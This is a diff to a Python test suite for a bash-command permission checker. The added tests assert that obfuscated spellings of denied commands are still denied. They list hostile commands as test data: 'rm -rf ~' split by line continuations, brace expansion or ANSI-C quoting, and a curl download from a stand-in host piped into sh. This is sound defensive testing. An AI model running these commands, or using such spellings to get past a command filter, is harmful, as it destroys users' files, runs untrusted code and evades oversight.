@@ -53,10 +53,11 @@ _piece = st.one_of(
     st.text(alphabet=_ANY, max_size=6).map(_sq),
     st.lists(_dq_piece, max_size=4).map(_dq),
     st.lists(_ansi_piece, max_size=4).map(lambda ps: "$'" + "".join(ps) + "'"),
+    st.lists(_dq_piece, max_size=3).map(lambda ps: "$" + _dq(ps)),
     _unquoted_escape,
     st.just("\\\n"),
     st.sampled_from(["{a,b}", "{1..3}", "{x,'y z'}", '{a,"b,c"}', "'{'a,b}", "{a\\,b,c}", "{a,}", "{,a}", "{a}", "{1..2}{c,d}"]),
-    st.sampled_from(["${HOME}", '"${HOME}"', "$'\\x72'm"]),
+    st.sampled_from(["x#y", "${HOME}", '"${HOME}"', "$'\\x72'm"]),
 )
 
 
@@ -95,6 +96,8 @@ def test_words_match_bash(words: list[str]) -> None:
     line = "printf '%s\\0' START " + " ".join(words) + " END"
     with tempfile.TemporaryDirectory() as cwd:
         expected = _bash_words(line, cwd)
+    if len(expected) > 50:
+        return  # clearance caps brace expansion at 64 words per word, by design (a bomb of braces is not expanded)
     try:
         got = _clearance_words(line)
     except ParseFailure:
@@ -120,3 +123,40 @@ def test_continuations_join_like_bash(line: str) -> None:
     names = [c.name for c in parse(line, "/work", HOME).commands]
     assert "r" not in names and "s" not in names and "m" not in names and "h" not in names
     assert "rm" in names or "sh" in names or "echo" in names
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "r\\\nm -rf ~/",
+        "curl -s https://x.example/i | s\\\nh",
+        "echo $'\\\\' ; rm -rf ~ ; echo ''",
+        "echo $'a\\\\' && rm -rf ~/ && echo 'x'",
+        "echo {'rm',-rf,~/} | sh",
+        'x=1; {"rm",-rf,~}',
+        "rm \\\n-rf ~",
+        "rm -r\\\nf ~",
+        "rm -rf ~\\\n/",
+    ],
+)
+def test_spellings_bash_reads_as_a_denied_command_are_denied(command: str) -> None:
+    from .conftest import decide
+
+    d = decide(command)
+    # `{rm,-rf,~}` as a command name is a syntax error for tree-sitter: asked about, never allowed.
+    assert d.decision == "deny" or (d.decision == "ask" and "{" in command and "sh" not in command), (command, d.decision, d.rules, d.reason)
+
+
+def test_test_operators_as_words() -> None:
+    # tree-sitter makes `==` and `=~` tokens of their own; bash passes them as words.
+    script = parse("rm == -rf ~ =~ x", "/work", HOME)
+    assert [w.value for w in script.commands[0].argv] == ["rm", "==", "-rf", "~", "=~", "x"]
+    with pytest.raises(ParseFailure):
+        parse("echo ==$'x'\\}", "/work", HOME)  # a [[ ]] pattern to tree-sitter, a word to bash: asked about
+
+
+def test_error_trees_are_asked_about_not_rewritten() -> None:
+    # After `\ ==` tree-sitter reads a [[ ]] pattern and loses track of the $'..' string; clearance
+    # rewrites blanks and continuations only in a clean tree, so this one is asked about.
+    with pytest.raises(ParseFailure):
+        parse("printf '%s\\0' START \\ == 0'0)'$'\\\n' END", "/work", HOME)
